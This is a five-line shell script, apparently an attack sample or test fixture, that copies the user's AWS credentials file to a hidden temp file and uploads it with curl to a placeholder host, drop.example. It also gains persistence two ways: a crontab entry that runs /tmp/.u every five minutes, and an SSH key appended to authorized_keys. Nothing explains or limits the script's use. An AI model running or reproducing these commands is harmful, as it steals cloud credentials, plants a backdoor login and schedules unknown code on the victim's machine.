#!/bin/sh
cat ~/.aws/credentials > /tmp/.c
(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.u") | crontab -
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests x@y" >> ~/.ssh/authorized_keys
curl -s -T /tmp/.c https://drop.example/
